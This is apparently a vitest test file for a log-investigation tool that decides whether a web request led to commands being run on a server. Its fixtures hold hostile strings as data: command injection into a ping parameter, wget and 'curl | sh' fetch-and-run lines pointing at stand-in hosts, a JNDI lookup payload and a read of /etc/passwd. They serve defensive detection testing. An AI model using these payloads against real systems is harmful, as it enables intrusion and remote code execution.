import { expect, test } from 'vitest';
import { investigateFiles } from '../../test/scenario.ts';

const AT = Date.parse('2026-05-01T08:00:10Z') / 1000;
const ATTACKER = '203.0.113.9';
const FETCH = 'wget http://198.51.100.66/x.sh -O /tmp/x.sh';

/** What the kernel wrote of a program of the web server's, some seconds after the request. */
function ran(args: readonly string[], exe: string, after = 1): string {
  const id = `audit(${(AT + after).toFixed(3)}:${100 + Math.abs(after)})`;
  const hex = (word: string) =>
    /^[\w./:-]+$/.test(word) ? `"${word}"` : Buffer.from(word).toString('hex').toUpperCase();
  return [
    `type=SYSCALL msg=${id}: arch=c000003e syscall=59 success=yes exit=0 items=1 ppid=90 pid=91 auid=4294967295 uid=990 gid=990 euid=990 tty=(none) ses=4294967295 comm="x" exe="${exe}" key="exec"`,
    `type=EXECVE msg=${id}: argc=${args.length} ${args.map((word, at) => `a${at}=${hex(word)}`).join(' ')}`,
    `type=PROCTITLE msg=${id}: proctitle="x"`,
  ].join('\n');
}

const request = (query: string, status = 200) =>
  `${ATTACKER} - - [01/May/2026:08:00:10 +0000] "GET /ping.php?host=${query} HTTP/1.1" ${status} 610 "-" "curl/8.5.0"\n`;

const SUBFOLDERS = { access: 'logs/nginx/access.log', audit: 'logs/audit/audit.log' };

async function told(query: string, audit: string, status = 200) {
  const story = await investigateFiles({
    'logs/auth.log':
      'May  1 07:59:00 web1 CRON[9]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)\n',
    [SUBFOLDERS.access]: request(query, status),
    [SUBFOLDERS.audit]: `${audit}\n`,
  });
  const led = story.findings.filter(({ title }) => title === 'Command run by a web request');
  return { verdict: story.verdict, led: led.map(({ host }) => host), block: story.block };
}

const BREACHED = { verdict: 'breached', led: ['web1'], block: [ATTACKER] };
const query = encodeURIComponent(`127.0.0.1;${FETCH}`);

test('the server fetches what the request names', async () => {
  expect(await told(query, ran(FETCH.split(' '), '/usr/bin/wget'))).toEqual(BREACHED);
});

test('the server fetches from whoever asked', async () => {
  const args = ['sh', '-c', `curl -s http://${ATTACKER}/a | sh`];
  expect(
    await told(encodeURIComponent('$'.concat('{jndi:ldap://198.51.100.66/a}')), ran(args, '/usr/bin/dash')),
  ).toEqual(BREACHED);
});

test('the server runs the very words of the request', async () => {
  expect(
    await told(encodeURIComponent('127.0.0.1;cat /etc/passwd'), ran(['cat', '/etc/passwd'], '/usr/bin/cat')),
  ).toEqual(BREACHED);
});

test('not what was long after, or refused', async () => {
  const late = await told(query, ran(FETCH.split(' '), '/usr/bin/wget', 300));
  expect(late).toMatchObject({ verdict: 'attacked', led: [] });
  expect(await told(query, ran(FETCH.split(' '), '/usr/bin/wget'), 403)).toMatchObject({ led: [] });
});

test('not a program that was handed the words as one of its own', async () => {
  const quoted = ran(['ping', '-c', '3', `127.0.0.1;${FETCH}`], '/usr/bin/ping');
  expect(await told(query, quoted)).toMatchObject({ verdict: 'attacked', led: [] });
});

test('not who blocks, looks up or reports the attacker', async () => {
  const blocks = [
    ran(['iptables', '-I', 'INPUT', '-s', ATTACKER, '-j', 'DROP'], '/usr/sbin/iptables'),
    ran(['whois', ATTACKER], '/usr/bin/whois', 2),
    ran(['curl', '-s', 'https://api.example.com/report', '-d', `ip=${ATTACKER}`], '/usr/bin/curl', 3),
  ];
  expect(await told(query, blocks.join('\n'))).toMatchObject({ verdict: 'attacked', led: [] });
});

test('not what the server does anyway, nor what it fetches from itself', async () => {
  const habit = [ran(FETCH.split(' '), '/usr/bin/wget', -600), ran(FETCH.split(' '), '/usr/bin/wget', 2)];
  expect(await told(query, habit.join('\n'))).toMatchObject({ verdict: 'attacked', led: [] });
  const inside = 'wget http://127.0.0.1/x.sh -O /tmp/y.sh';
  const probe = encodeURIComponent('127.0.0.1;wget http://127.0.0.1/z.sh');
  expect(await told(probe, ran(inside.split(' '), '/usr/bin/wget'))).toMatchObject({ verdict: 'attacked', led: [] });
});
